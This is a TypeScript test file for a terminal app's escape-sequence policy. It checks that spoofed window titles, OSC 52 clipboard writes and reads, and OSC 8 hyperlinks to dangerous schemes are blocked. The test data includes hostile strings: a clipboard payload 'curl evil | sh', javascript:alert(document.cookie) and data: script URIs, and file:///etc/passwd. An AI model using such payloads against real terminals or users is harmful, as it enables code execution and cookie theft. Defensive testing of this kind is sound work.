// Terminal escape abuse (#11), against a real xterm parser (@xterm/headless, the same core the app
// renders with): title spoofing, clipboard writes and queries, and hyperlinks to dangerous schemes.
import { describe, expect, it, vi } from 'vitest';
import { Terminal } from '@xterm/headless';
import { OSC52_MAX_BYTES, hyperlinkHandler, installEscapePolicy, osc52Text } from './escapePolicy';

const ESC = '\x1b';
const BEL = '\x07';
const osc = (id: number, data: string, st = BEL) => `${ESC}]${id};${data}${st}`;
const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');

function setup(allowed = false) {
  const term = new Terminal({ allowProposedApi: true, cols: 80, rows: 24 });
  const titles: string[] = [];
  term.onTitleChange((t) => titles.push(t));
  const writeClipboard = vi.fn();
  const setting = { allowed };
  installEscapePolicy(term.parser, { clipboardWriteAllowed: () => setting.allowed, writeClipboard });
  const write = (s: string) => new Promise<void>((r) => term.write(s, r));
  return { term, titles, writeClipboard, setting, write };
}

describe('terminal escape policy', () => {
  it('a bare xterm does change its title: the test would notice if the policy stopped swallowing', async () => {
    const term = new Terminal({ allowProposedApi: true });
    const titles: string[] = [];
    term.onTitleChange((t) => titles.push(t));
    await new Promise<void>((r) => term.write(osc(2, 'spoofed'), r));
    expect(titles).toEqual(['spoofed']);
  });

  it('swallows OSC 0/1/2 title changes (BEL and ST terminated) and keeps printing the text around them', async () => {
    const { titles, write, term } = setup();
    await write(`a${osc(0, 'prod-db (123456789012)')}b${osc(2, 'root@bastion', `${ESC}\\`)}c${osc(1, 'icon')}d`);
    expect(titles).toEqual([]);
    expect(term.buffer.active.getLine(0)!.translateToString(true)).toBe('abcd');
  });

  it('ignores OSC 52 clipboard writes while the setting is off (the default)', async () => {
    const { write, writeClipboard } = setup(false);
    await write(osc(52, `c;${b64('curl evil | sh\n')}`));
    expect(writeClipboard).not.toHaveBeenCalled();
  });

  it('writes text to the clipboard once the setting is on, and stops again when it is turned off', async () => {
    const { write, writeClipboard, setting } = setup(true);
    await write(osc(52, `c;${b64('héllo 😀')}`));
    expect(writeClipboard).toHaveBeenCalledWith('héllo 😀');
    setting.allowed = false;
    await write(osc(52, `c;${b64('again')}`));
    expect(writeClipboard).toHaveBeenCalledTimes(1);
  });

  it('never answers a clipboard read (OSC 52 query), even with the setting on', async () => {
    const { term, write, writeClipboard } = setup(true);
    const replies: string[] = [];
    term.onData((d) => replies.push(d));
    await write(osc(52, 'c;?'));
    expect(writeClipboard).not.toHaveBeenCalled();
    expect(replies).toEqual([]);
  });

  it('refuses malformed and oversize clipboard payloads', () => {
    expect(osc52Text(`c;${b64('ok')}`)).toBe('ok');
    expect(osc52Text('c;not base64!')).toBeUndefined();
    expect(osc52Text(`x;${b64('ok')}`)).toBeUndefined();
    expect(osc52Text(b64('no selection'))).toBeUndefined();
    expect(osc52Text(`c;${b64('x'.repeat(OSC52_MAX_BYTES))}`)).toBe('x'.repeat(OSC52_MAX_BYTES));
    expect(osc52Text(`c;${b64('x'.repeat(OSC52_MAX_BYTES + 3))}`)).toBeUndefined();
  });

  it.each(['javascript:alert(document.cookie)', 'JaVaScRiPt:alert(1)', 'file:///etc/passwd', 'data:text/html,<script>alert(1)</script>', 'vbscript:x', 'ssh://host', 'fumidai://connect?account=123456789012&instance=i-0123456789abcdef0', 'https://user:pw@example.com/', ' javascript:alert(1)', 'not a url'])(
    'an OSC 8 hyperlink to %s opens nothing',
    (uri) => {
      const open = vi.fn();
      const event = { preventDefault: vi.fn() };
      hyperlinkHandler(open).activate(event, uri);
      expect(open).not.toHaveBeenCalled();
      expect(event.preventDefault).toHaveBeenCalled();
    },
  );

  it('an OSC 8 https link goes to the app’s checked external-link path', () => {
    const open = vi.fn();
    const handler = hyperlinkHandler(open);
    expect(handler.allowNonHttpProtocols).toBe(false);
    handler.activate({ preventDefault() {} }, 'https://console.aws.amazon.com/ec2/');
    expect(open).toHaveBeenCalledWith('https://console.aws.amazon.com/ec2/');
  });
});
